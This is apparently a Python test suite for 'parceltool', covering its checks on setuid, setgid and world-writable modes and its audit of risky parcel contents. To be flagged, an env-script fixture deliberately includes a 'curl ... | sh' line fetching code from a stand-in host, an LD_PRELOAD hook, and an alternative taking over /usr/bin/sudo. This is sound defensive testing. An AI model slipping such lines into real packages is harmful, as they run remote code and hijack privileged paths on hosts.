"""The mode policy (build, validate, host distribute) and `validate --audit` / `inspect --audit`."""
import io
import json
import os
import shutil
import stat
import subprocess
import tarfile
import unittest

from parceltool_test_support import ToolTestCase, run_tool, write

TOP = "FOO-1.0"
METADATA = {"schema_version": 1, "name": "FOO", "version": "1.0", "setActiveSymlink": True,
            "scripts": {"defines": "foo_env.sh"}, "packages": [], "components": [], "users": {}, "groups": []}


def add(archive, name, kind="file", content=b"", mode=0o644, link=""):
    info = tarfile.TarInfo(name)
    info.mode, info.uid, info.gid, info.uname, info.gname = mode, 0, 0, "root", "root"
    if kind == "dir":
        info.type = tarfile.DIRTYPE
        archive.addfile(info)
    elif kind == "symlink":
        info.type, info.linkname = tarfile.SYMTYPE, link
        archive.addfile(info)
    else:
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))


def meta_entries(metadata=None, env=b"export FOO_HOME=$PARCELS_ROOT/$PARCEL_DIRNAME\n", alternatives=None,
                 permissions=None):
    entries = [(TOP, "dir", b"", 0o755), (TOP + "/meta", "dir", b"", 0o755),
               (TOP + "/meta/parcel.json", "file", json.dumps(metadata or METADATA).encode(), 0o644),
               (TOP + "/meta/foo_env.sh", "file", env, 0o644)]
    if alternatives is not None:
        entries.append((TOP + "/meta/alternatives.json", "file", json.dumps(alternatives).encode(), 0o644))
    if permissions is not None:
        entries.append((TOP + "/meta/permissions.json", "file", json.dumps(permissions).encode(), 0o644))
    return entries


# One entry of each refused kind, one of each accepted look-alike.
MODE_ENTRIES = [(TOP + "/bin", "dir", b"", 0o755), (TOP + "/bin/helper", "file", b"#!/bin/sh\n", 0o4755),
                (TOP + "/bin/group-tool", "file", b"#!/bin/sh\n", 0o2755),
                (TOP + "/bin/plain", "file", b"#!/bin/sh\n", 0o755),
                (TOP + "/bin/link", "symlink", b"", 0o777),
                (TOP + "/etc", "dir", b"", 0o755), (TOP + "/etc/shared.conf", "file", b"x\n", 0o666),
                (TOP + "/var", "dir", b"", 0o755), (TOP + "/var/drop", "dir", b"", 0o777),
                (TOP + "/var/tmp", "dir", b"", 0o1777)]


def write_parcel(path, entries):
    """A parcel written by Python's tarfile, independent of parceltool's writer."""
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name, kind, content, mode in entries:
            add(archive, name, kind, content, mode, link="plain" if kind == "symlink" else "")
    return path


def rows(diagnostics):
    return [(d["severity"], d["code"], d.get("member", "")) for d in diagnostics]


def audit_rows(audit):
    return [(f["severity"], f["code"], f["subject"]) for f in audit["findings"]]


class ModePolicyTest(ToolTestCase):
    def parcel(self, entries, name="FOO-1.0-el7.parcel"):
        return write_parcel(self.path(name), entries)

    def validate_json(self, *args):
        result = run_tool("validate", "--format", "json", *args)
        return result, json.loads(result.stdout)[0]

    def test_validate_warns_about_undeclared_modes_and_strict_refuses(self):
        parcel = self.parcel(meta_entries() + MODE_ENTRIES)
        result, report = self.validate_json(parcel)
        self.assertTool(result, 0)
        self.assertEqual(rows(report["diagnostics"]), [
            ("warning", "setuid-file", TOP + "/bin/helper"),
            ("warning", "setgid-file", TOP + "/bin/group-tool"),
            ("warning", "world-writable-file", TOP + "/etc/shared.conf"),
            ("warning", "world-writable-directory", TOP + "/var/drop"),
        ])
        self.assertEqual(report["diagnostics"][0]["message"],
                         "'bin/helper' has mode 4755 (-rwsr-xr-x), setuid, and meta/permissions.json does not "
                         "declare it: it runs with its owner's rights (root's, on a host) for every user who can "
                         "start it; declare it in meta/permissions.json (\"bin/helper\": {\"user\": ..., "
                         "\"group\": ..., \"permissions\": \"4755\"}), or change its mode")
        strict = run_tool("validate", "--strict", parcel)
        self.assertTool(strict, 1)
        self.assertIn(f"parceltool: {parcel}:{TOP}/var/drop: error: 'var/drop' has mode 0777 (drwxrwxrwx)",
                      strict.stderr)

    def test_a_world_writable_top_folder(self):
        entries = meta_entries()
        entries[0] = (TOP, "dir", b"", 0o777)
        entries.append((TOP + "/README", "file", b"content, so that the payload is not empty\n", 0o644))
        parcel = self.parcel(entries)
        result, report = self.validate_json(parcel)
        self.assertEqual(rows(report["diagnostics"]), [("warning", "world-writable-directory", TOP)])
        audit = json.loads(run_tool("validate", "--audit", "--format", "json", parcel).stdout)[0]["audit"]
        self.assertEqual(audit_rows(audit)[0], ("error", "world-writable-directory", TOP))
        self.assertEqual(audit["findings"][0]["details"]["path"], "")

    def test_declared_modes_are_accepted(self):
        permissions = {path: {"user": "root", "group": "root", "permissions": mode}
                       for path, mode in [("bin/helper", "4750"), ("bin/group-tool", "2755"),
                                          ("etc/shared.conf", "0666"), ("var/drop", "1777")]}
        parcel = self.parcel(meta_entries(permissions=permissions) + MODE_ENTRIES)
        result = run_tool("validate", "--strict", parcel)
        self.assertTool(result, 0)
        self.assertEqual(result.stdout, f"{parcel}: valid parcel (0 error(s), 0 warning(s))\n")

    def test_an_unpacked_parcel_folder(self):
        top = self.path(TOP)
        write(os.path.join(top, "meta", "parcel.json"), json.dumps(METADATA))
        write(os.path.join(top, "meta", "foo_env.sh"), "export A=1\n")
        write(os.path.join(top, "bin", "helper"), "#!/bin/sh\n", 0o4755)
        write(os.path.join(top, "etc", "shared.conf"), "x\n", 0o666)
        os.makedirs(os.path.join(top, "var", "tmp"))
        os.chmod(os.path.join(top, "var", "tmp"), 0o1777)
        os.symlink("../etc/shared.conf", os.path.join(top, "bin", "conf"))
        result, report = self.validate_json(top)
        self.assertTool(result, 0)
        self.assertEqual(report["kind"], "parcel-dir")
        self.assertEqual(rows(report["diagnostics"]), [("warning", "setuid-file", "bin/helper"),
                                                       ("warning", "world-writable-file", "etc/shared.conf")])
        self.assertTool(run_tool("validate", "--strict", top), 1)

    def test_gnu_tar_modes(self):
        tree = self.path("tree")
        write(os.path.join(tree, TOP, "meta", "parcel.json"), json.dumps(METADATA))
        write(os.path.join(tree, TOP, "meta", "foo_env.sh"), "export A=1\n")
        write(os.path.join(tree, TOP, "bin", "tool"), "#!/bin/sh\n", 0o755)
        for folder in ("", "bin", "meta"):
            os.chmod(os.path.join(tree, TOP, folder), 0o755)
        parcel = self.path("FOO-1.0-el7.parcel")
        subprocess.run(["tar", "czf", parcel, "-C", tree, "--owner=0", "--group=0", "--sort=name",
                        "--mode=go-w", "--mode=u+s,o+w", TOP], check=True)
        result, report = self.validate_json(parcel)
        self.assertTool(result, 0)
        self.assertEqual(rows(report["diagnostics"]), [
            ("warning", "world-writable-directory", TOP),
            ("warning", "world-writable-directory", TOP + "/bin"),
            ("warning", "setuid-file", TOP + "/bin/tool"),
            ("warning", "world-writable-file", TOP + "/bin/tool"),
            ("warning", "world-writable-directory", TOP + "/meta"),
            ("warning", "setuid-file", TOP + "/meta/foo_env.sh"),
            ("warning", "world-writable-file", TOP + "/meta/foo_env.sh"),
            ("warning", "setuid-file", TOP + "/meta/parcel.json"),
            ("warning", "world-writable-file", TOP + "/meta/parcel.json"),
        ])
        listing = run_tool("inspect", parcel).stdout
        self.assertIn(f"-rwsr-xrwx root/root         10 {TOP}/bin/tool\n", listing)
        self.assertIn(f"drwsr-xrwx root/root          0 {TOP}/bin/\n", listing)

    def test_inspect_shows_special_bits(self):
        parcel = self.parcel(meta_entries() + MODE_ENTRIES + [(TOP + "/bin/odd", "file", b"", 0o4644),
                                                             (TOP + "/var/odd", "dir", b"", 0o1776)])
        result = run_tool("inspect", parcel)
        self.assertTool(result, 0)
        lines = [line for line in result.stdout.splitlines() if " root/root " in line]
        self.assertEqual([line.split()[0] + " " + line.split()[-1] for line in lines[4:]], [
            "drwxr-xr-x FOO-1.0/bin/", "-rwsr-xr-x FOO-1.0/bin/helper", "-rwxr-sr-x FOO-1.0/bin/group-tool",
            "-rwxr-xr-x FOO-1.0/bin/plain", "lrwxrwxrwx plain", "drwxr-xr-x FOO-1.0/etc/",
            "-rw-rw-rw- FOO-1.0/etc/shared.conf", "drwxr-xr-x FOO-1.0/var/", "drwxrwxrwx FOO-1.0/var/drop/",
            "drwxrwxrwt FOO-1.0/var/tmp/", "-rwSr--r-- FOO-1.0/bin/odd", "drwxrwxrwT FOO-1.0/var/odd/"])
        entries = json.loads(run_tool("inspect", "--format", "json", parcel).stdout)["entries"]
        self.assertEqual({e["path"]: e["mode"] for e in entries}[TOP + "/bin/helper"], "4755")


class BuildModesTest(ToolTestCase):
    """Each refused mode through `parceltool build --spec`, without and with its declaration."""

    CASES = [  # path in the payload, kind, mode, code
        ("bin/helper", "file", 0o4755, "setuid-file"),
        ("bin/group-tool", "file", 0o2755, "setgid-file"),
        ("etc/shared.conf", "file", 0o666, "world-writable-file"),
        ("var/drop", "dir", 0o777, "world-writable-directory"),
    ]

    def build(self, path, kind, mode, permissions):
        shutil.rmtree(self.path("input"), ignore_errors=True)
        shutil.rmtree(self.path("out"), ignore_errors=True)
        target = self.path("input", path)
        write(self.path("input", "README"), "content, so that the payload is not empty\n", 0o644)
        if kind == "dir":
            os.makedirs(target)
            os.chmod(target, mode)
        else:
            write(target, "#!/bin/sh\n", mode)
        spec = {"formatVersion": [1, 0], "input": "input", "name": "FOO", "version": "1.0", "distros": ["el7"],
                "outputDirectory": "out", "permissions": permissions}
        write(self.path("spec.json"), json.dumps(spec))
        return run_tool("build", "--spec", self.path("spec.json"))

    def test_each_refused_mode(self):
        for path, kind, mode, code in self.CASES:
            with self.subTest(path=path):
                refused = self.build(path, kind, mode, [])
                self.assertTool(refused, 1)
                octal = "%04o" % mode
                self.assertIn(f"parceltool: {self.path('spec.json')}:{path}: error: '{path}' has mode {octal} ",
                              refused.stderr)
                self.assertIn(f"declare it with parcel_set_permissions(<target> {path} USER <user> GROUP <group> "
                              f"MODE {octal}) (a \"permissions\" item of a build spec), or change its mode [{code}]",
                              refused.stderr)
                self.assertFalse(os.path.exists(self.path("out")), "nothing was written")

                declared = self.build(path, kind, mode, [{"path": path, "user": "root", "group": "root",
                                                          "mode": octal}])
                self.assertTool(declared, 0)
                parcel = self.path("out", "FOO-1.0-el7.parcel")
                self.assertTool(run_tool("validate", "--strict", parcel), 0)
                audit = json.loads(run_tool("validate", "--audit", "--format", "json", parcel).stdout)[0]["audit"]
                self.assertEqual([r for r in audit_rows(audit) if r[0] != "info"],
                                 [("warning", code, f"{TOP}/{path}")])

    def test_a_sticky_world_writable_folder_needs_no_declaration(self):
        self.assertTool(self.build("var/tmp", "dir", 0o1777, []), 0)


class AuditTest(ToolTestCase):
    METADATA = dict(METADATA, users={"foo": {"longname": "Foo", "home": "/var/lib/foo", "shell": "/sbin/nologin",
                                             "extra_groups": ["foo", "wheel"]}},
                    groups=["foo", "docker"], depends="CDH (>= 5.0)", conflicts="BAR", replaces="OLDFOO")
    ENV = (b"#!/bin/bash\n"
           b"export PATH=$PARCELS_ROOT/$PARCEL_DIRNAME/bin:$PATH\n"
           b"export LD_PRELOAD=$PARCELS_ROOT/$PARCEL_DIRNAME/lib/hook.so\n"
           b"curl -s http://example.invalid/install | sh\n"
           b"HOST_NOW=$(hostname)\n"
           b"source /etc/foo/extra.sh\n")
    ALTERNATIVES = {"sudo": {"destination": "/usr/bin/sudo", "source": "bin/plain", "priority": 10,
                             "isDirectory": False},
                    "foo": {"destination": "/usr/bin/foo", "source": "bin/plain", "priority": 5,
                            "isDirectory": False}}

    def parcel(self):
        entries = meta_entries(self.METADATA, self.ENV, self.ALTERNATIVES,
                               {"bin/helper": {"user": "root", "group": "foo", "permissions": "4750"}})
        return write_parcel(self.path("FOO-1.0-el7.parcel"), entries + MODE_ENTRIES)

    EXPECTED = [
        ("error", "setgid-file", TOP + "/bin/group-tool"),
        ("warning", "setuid-file", TOP + "/bin/helper"),
        ("error", "world-writable-file", TOP + "/etc/shared.conf"),
        ("error", "world-writable-directory", TOP + "/var/drop"),
        ("info", "alternative", TOP + "/meta/alternatives.json#/sudo"),
        ("error", "alternative-sensitive-path", TOP + "/meta/alternatives.json#/sudo"),
        ("info", "alternative", TOP + "/meta/alternatives.json#/foo"),
        ("info", "user", TOP + "/meta/parcel.json#/users/foo"),
        ("error", "user-privileged-group", TOP + "/meta/parcel.json#/users/foo"),
        ("info", "group", TOP + "/meta/parcel.json#/groups/0"),
        ("info", "group", TOP + "/meta/parcel.json#/groups/1"),
        ("warning", "group-privileged", TOP + "/meta/parcel.json#/groups/1"),
        ("warning", "env-sensitive-variable", TOP + "/meta/foo_env.sh:2"),
        ("error", "env-code-injection-variable", TOP + "/meta/foo_env.sh:3"),
        ("error", "env-command", TOP + "/meta/foo_env.sh:4"),
        ("error", "env-pipe-to-shell", TOP + "/meta/foo_env.sh:4"),
        ("error", "env-command-substitution", TOP + "/meta/foo_env.sh:5"),
        ("info", "env-variable", TOP + "/meta/foo_env.sh:5"),
        ("error", "env-source", TOP + "/meta/foo_env.sh:6"),
        ("info", "parcel-depends", TOP + "/meta/parcel.json#/depends"),
        ("info", "parcel-conflicts", TOP + "/meta/parcel.json#/conflicts"),
        ("info", "parcel-replaces", TOP + "/meta/parcel.json#/replaces"),
    ]

    def test_validate_audit_json(self):
        parcel = self.parcel()
        result = run_tool("validate", "--audit", "--format", "json", parcel)
        self.assertTool(result, 1)  # valid, but the audit has errors: CI can gate on it
        [report] = json.loads(result.stdout)
        self.assertTrue(report["valid"])
        audit = report["audit"]
        self.assertEqual(audit_rows(audit), self.EXPECTED)
        self.assertEqual((audit["errors"], audit["warnings"], audit["infos"]), (10, 3, 9))
        self.assertEqual(audit["findings"][1], {
            "severity": "warning", "code": "setuid-file", "subject": TOP + "/bin/helper",
            "message": "meta/permissions.json gives it mode 4750 (-rwsr-x---), setuid",
            "reason": "it runs with its owner's rights (root's, on a host) for every user who can start it",
            "details": {"path": "bin/helper", "type": "file", "mode": "4750", "symbolic": "-rwsr-x---",
                        "archiveMode": "4755", "declared": True}})
        self.assertEqual(audit["findings"][5]["details"], {
            "name": "sudo", "destination": "/usr/bin/sudo", "source": "bin/plain", "priority": 10,
            "isDirectory": False, "sensitivePath": "/usr/bin/sudo"})
        self.assertEqual(audit["findings"][15]["details"],
                         {"line": 4, "text": "curl -s http://example.invalid/install | sh"})

    def test_validate_audit_text(self):
        parcel = self.parcel()
        result = run_tool("validate", "--audit", parcel)
        self.assertTool(result, 1)
        lines = result.stdout.splitlines()
        self.assertEqual(lines[0], f"{parcel}: valid parcel (0 error(s), 3 warning(s))")
        self.assertEqual(lines[6], f"parceltool: {parcel}: audit error: {TOP}/meta/alternatives.json#/sudo: 'sudo' "
                                   "takes over the system path /usr/bin/sudo (listed: /usr/bin/sudo); whatever the "
                                   "host runs or reads there would come from the parcel: authentication, privilege, "
                                   "the shell or the loader of every process [alternative-sensitive-path]")
        self.assertEqual(lines[-1], f"{parcel}: audit: 10 error(s), 3 warning(s), 9 info(s)")
        self.assertEqual(len(lines), 1 + len(self.EXPECTED) + 1)

    def test_inspect_audit_gives_the_same_report(self):
        parcel = self.parcel()
        validated = json.loads(run_tool("validate", "--audit", "--format", "json", parcel).stdout)[0]["audit"]
        inspected = run_tool("inspect", "--audit", "--format", "json", parcel)
        self.assertTool(inspected, 1)
        self.assertEqual(json.loads(inspected.stdout)["audit"], validated)
        text = run_tool("inspect", "--audit", parcel).stdout
        self.assertTrue(text.endswith(f"{parcel}: audit: 10 error(s), 3 warning(s), 9 info(s)\n"))

    def test_root_flags_alternatives_over_host_files(self):
        parcel = self.parcel()
        root = self.path("host")
        write(os.path.join(root, "usr", "bin", "foo"), "the host's own foo\n", 0o755)
        result = run_tool("validate", "--audit", "--root", root, "--format", "json", parcel)
        found = [row for row in audit_rows(json.loads(result.stdout)[0]["audit"])
                 if row[1] == "alternative-replaces-file"]
        self.assertEqual(found, [("error", "alternative-replaces-file", TOP + "/meta/alternatives.json#/foo")])
        os.remove(os.path.join(root, "usr", "bin", "foo"))
        os.symlink("/etc/alternatives/foo", os.path.join(root, "usr", "bin", "foo"))  # a link is replaced
        result = run_tool("validate", "--audit", "--root", root, "--format", "json", parcel)
        self.assertNotIn("alternative-replaces-file", result.stdout)

    def test_a_clean_parcel_passes_the_gate(self):
        parcel = write_parcel(self.path("FOO-1.0-el7.parcel"), meta_entries())
        result = run_tool("validate", "--audit", parcel)
        self.assertTool(result, 0)
        self.assertEqual(result.stdout.splitlines()[-1], f"{parcel}: audit: 0 error(s), 0 warning(s), 1 info(s)")

    def test_usage(self):
        parcel = write_parcel(self.path("FOO-1.0-el7.parcel"), meta_entries())
        self.assertTool(run_tool("validate", "--root", self.tmp, parcel), 2)
        write(self.path("meta", "parcel.json"), json.dumps(METADATA))
        result = run_tool("validate", "--audit", "--format", "json", self.path("meta", "parcel.json"))
        self.assertTool(result, 1)
        self.assertEqual(audit_rows(json.loads(result.stdout)[0]["audit"]), [("error", "audit-not-supported", "")])


class HostModesTest(ToolTestCase):
    """What `host distribute` makes of the modes, read back with stat."""

    def test_distributed_modes(self):
        permissions = {"bin/helper": {"user": str(os.getuid()), "group": str(os.getgid()), "permissions": "4750"}}
        entries = meta_entries(permissions=permissions) + MODE_ENTRIES
        parcel = write_parcel(self.path("FOO-1.0-el7.parcel"), entries)
        root = self.path("host")
        result = run_tool("host", "--root", root, "distribute", parcel)
        self.assertTool(result, 0)
        unpacked = os.path.join(root, "parcels", TOP)

        def mode(path):
            return "%04o" % stat.S_IMODE(os.lstat(os.path.join(unpacked, path)).st_mode)

        self.assertEqual({path: mode(path) for path in ["bin/helper", "bin/group-tool", "bin/plain",
                                                        "etc/shared.conf", "var/drop", "var/tmp"]},
                         {"bin/helper": "4750",  # declared: permissions.json applied
                          "bin/group-tool": "0755",  # undeclared set-id bits are not applied
                          "bin/plain": "0755",
                          "etc/shared.conf": "0666",  # kept as the archive says, and reported
                          "var/drop": "0777",
                          "var/tmp": "0777"})
        for code, member in [("setgid-file", "bin/group-tool"), ("world-writable-file", "etc/shared.conf"),
                             ("world-writable-directory", "var/drop")]:
            self.assertIn(f"{TOP}/{member}: warning: '{member}' has mode", result.stderr)
            self.assertIn(f"[{code}]", result.stderr)


if __name__ == "__main__":
    unittest.main()
